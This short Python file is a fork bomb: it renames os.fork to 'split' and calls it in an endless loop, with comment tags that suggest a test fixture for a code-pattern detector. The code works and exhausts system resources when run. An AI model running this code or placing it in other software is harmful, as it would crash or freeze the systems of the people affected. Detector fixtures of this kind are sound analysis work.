from os import fork as split  #! python.os.process python.import.os

while True:  #! python.endless-loop
    split()  #! python.os.process
